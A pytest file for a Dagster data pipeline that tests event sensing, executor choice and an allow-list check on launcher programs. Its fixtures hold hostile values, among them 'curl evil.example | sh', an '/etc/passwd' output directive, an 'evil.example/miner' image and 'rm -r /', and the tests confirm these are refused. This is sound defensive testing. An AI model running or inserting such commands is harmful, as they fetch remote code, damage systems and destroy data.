"""What Dagster sees of a lake: one event per stage run, once, by whatever program it was built.

Also: who runs the steps is chosen by the environment, and the choices are what Dagster takes; what is run is the
operator's to say.
"""

from collections import Counter
from itertools import product

import dagster as dg
import pytest
from dagster._config import validate_config

from annotate.config import SamplesConfig
from assets.defs.corpus.jobs import lake_contents
from assets.defs.resources import CHOICE, EXECUTORS, PASSED_ON, CorpusResource, VlmServer, executor
from assets.lib.launch.kubernetes import KubernetesLauncher
from assets.lib.launch.run import RayLauncher, SlurmLauncher
from assets.lib.programs import FILE, check_programs
from cli.console import build_all
from cli.operating import dagster_home
from core.errors import UserError
from core.paths import ROOT, Workspace
from pipeline.release import release_step
from tests.kits.lake_kit import opened
from tests.kits.made_corpus import Made, with_stages
from tests.kits.tiny_lerobot import LENGTHS, rows_path, video_path

STAGES = ("episodes", "frames", "demonstrations", "segments", "progress", "samples", "shards")
CHUNKS = ["tiny:00000", "tiny:00001", "tiny:00002"]
ALL = {("episodes", "tiny")} | {(stage, chunk) for stage, chunk in product(STAGES[1:], CHUNKS)}


class Watch:
    """The sensor on a workspace, with what its event log has."""

    def __init__(self, space: Workspace, instance: dg.DagsterInstance) -> None:
        self.instance = instance
        self.resources = {"corpus": CorpusResource(root=str(space.root))}
        self.cursor: str | None = None

    def look(self) -> str | None:
        """One look; why there was nothing to see."""
        with dg.build_sensor_context(
            self.instance, cursor=self.cursor, resources=self.resources
        ) as context:
            seen = lake_contents.evaluate_tick(context)
        self.cursor = seen.cursor
        return seen.skip_message

    def events(self, *assets: str) -> list[dg.AssetMaterialization]:
        """Materialisations that the event log has, oldest first."""
        records: list[dg.EventLogRecord] = []
        for asset in assets:
            records += self.instance.fetch_materializations(dg.AssetKey(asset), 1000).records
        records.sort(key=lambda record: record.storage_id)
        return [event for record in records if (event := record.asset_materialization)]

    def counted(self) -> Counter[tuple[str, str | None]]:
        return Counter((e.asset_key.to_user_string(), e.partition) for e in self.events(*STAGES))


@pytest.fixture
def watch(own: Made, instance: dg.DagsterInstance) -> Watch:
    return Watch(own.space, instance)


@pytest.mark.slow
def test_the_lake_is_seen_once(own, watch):
    """Stages, what is upstream first, and what was made of them; also a stage that this version does not have."""
    with opened(own.space) as lake:
        lake.con.execute(
            "INSERT INTO stage_runs SELECT * REPLACE ('former' AS stage) FROM stage_runs LIMIT 1"
        )
        release_step(lake, "first", allow=("unknown",))
    assert watch.look() == f"{len(ALL) + 1} stage runs are new here"
    assert watch.look() == "the lake is as it was"
    watch.cursor = None
    assert watch.look() == "1 stage runs are new here", "that of another version"
    assert watch.counted() == Counter(ALL)
    events = watch.events(*STAGES, "release")
    assert [
        e.asset_key.to_user_string() for e in events if e.partition in ("tiny", CHUNKS[0], None)
    ] == [*STAGES, "release"]
    assert {e.asset_key.to_user_string() for e in events if "rows_frames" in e.metadata} == {
        "frames"
    }
    tags = events[-2].tags or {}
    assert tags["dagster/input_event_pointer/samples"].isdecimal()
    assert watch.instance.get_runs() == []


@pytest.mark.slow
def test_what_another_program_builds_is_seen(own, watch):
    changed = with_stages(own.build, samples=SamplesConfig(progress_per_episode=3))
    repeated_steps = {(stage, chunk) for stage, chunk in product(("samples", "shards"), CHUNKS)}
    watch.look()
    assert build_all(own.space, [changed], 1) == 0
    assert not (own.space.root / "dagster").exists()
    watch.look()
    assert watch.counted() == Counter(ALL) + Counter(repeated_steps)


@pytest.mark.slow
def test_a_workspace_without_a_lake(tmp_path, instance):
    assert Watch(Workspace(tmp_path / "new"), instance).look() == "nothing was built yet"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_a_chunk_that_its_dataset_lost_is_no_partition_any_more(own, watch):
    watch.look()
    assert watch.instance.get_dynamic_partitions("chunks") == CHUNKS
    last = len(LENGTHS) - 1
    rows_path(own.source, last).unlink()
    video_path(own.source, last).unlink()
    listing = own.source / "meta" / "episodes.jsonl"
    listing.write_text("".join(listing.read_text().splitlines(keepends=True)[:-1]))
    assert own.rebuild() == [("episodes", None)]
    for table in ("frames", "progress", "samples", "shards", "stage_runs"):
        assert own.rows(f"SELECT count(*) FROM {table} WHERE chunk = 2") == [(0,)], table
    watch.look()
    assert watch.instance.get_dynamic_partitions("chunks") == CHUNKS[:2]


@pytest.mark.slow
def test_the_projects_own_workspace_uses_the_projects_home():
    assert dagster_home(Workspace(ROOT / "workspace")) == ROOT


@pytest.mark.slow
def test_a_path_where_dagster_cannot_keep_its_storage(tmp_path):
    with pytest.raises(UserError, match=r"below a '\?'"):
        dagster_home(Workspace(tmp_path / "a?b"))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", EXECUTORS)
def test_choice_is_made_and_its_configuration_valid(name, monkeypatch):
    monkeypatch.setenv(CHOICE, name)
    built_executor = executor()
    assert built_executor.name == name
    assert built_executor.config_schema is not None
    assert validate_config(built_executor.config_schema.config_type, {}).success
    resolved = built_executor.apply_config_mapping({"config": {}})
    assert resolved.success, resolved.errors


def test_unknown_choice_is_refused(monkeypatch):
    monkeypatch.setenv(CHOICE, "slurm")
    with pytest.raises(
        ValueError, match="PROCCORPUS_EXECUTOR is 'slurm': it may be in_process, ray, kubernetes"
    ):
        executor()


def test_no_secret_is_passed_on_to_ray(monkeypatch):
    for name in ("PGPASSWORD", "AWS_SECRET_ACCESS_KEY", "DAGSTER_POSTGRES_URL", *PASSED_ON):
        monkeypatch.setenv(name, f"marked-{name}")
    monkeypatch.setenv(CHOICE, "ray")
    resolved = executor().apply_config_mapping({"config": {}})
    assert resolved.value is not None
    ray_config = resolved.value["config"]["ray"]
    assert ray_config["env_vars"] == list(PASSED_ON)
    assert ray_config["num_cpus"] == 1.0


NAMED = [
    VlmServer(model="m", python="/tmp/evil"),
    SlurmLauncher(setup=["curl evil.example | sh"]),
    SlurmLauncher(directives=["--output=/etc/passwd"]),
    SlurmLauncher(python="/tmp/evil"),
    RayLauncher(python="/tmp/evil"),
    KubernetesLauncher(image="evil.example/miner", claim="work"),
]


@pytest.mark.parametrize("config", NAMED)
def test_none_without_a_file(config, tmp_path):
    with pytest.raises(UserError, match=FILE):
        check_programs(config, {})
    other_file = tmp_path / "programs.toml"
    other_file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
    with pytest.raises(UserError, match="is not allowed in a run's configuration"):
        check_programs(config, {FILE: str(other_file)})


def test_what_the_file_lists(tmp_path):
    file = tmp_path / "programs.toml"
    file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
    launcher = SlurmLauncher(setup=["module load cuda"], python="/opt/python")
    check_programs(launcher, {FILE: str(file)})
    with pytest.raises(UserError, match="'rm -r /'"):
        check_programs(
            launcher.model_copy(update={"setup": ["module load cuda", "rm -r /"]}),
            {FILE: str(file)},
        )
    file.write_text("setup = 7")
    with pytest.raises(UserError, match="other things"):
        check_programs(launcher, {FILE: str(file)})
    with pytest.raises(UserError, match="cannot be read"):
        check_programs(launcher, {FILE: str(tmp_path / "none.toml")})


def test_the_servers_of_a_run_are_not_started(monkeypatch):
    monkeypatch.delenv(FILE, raising=False)
    with pytest.raises(dg.Failure, match="not allowed"):
        VlmServer(model="m", python="/tmp/evil").endpoints()
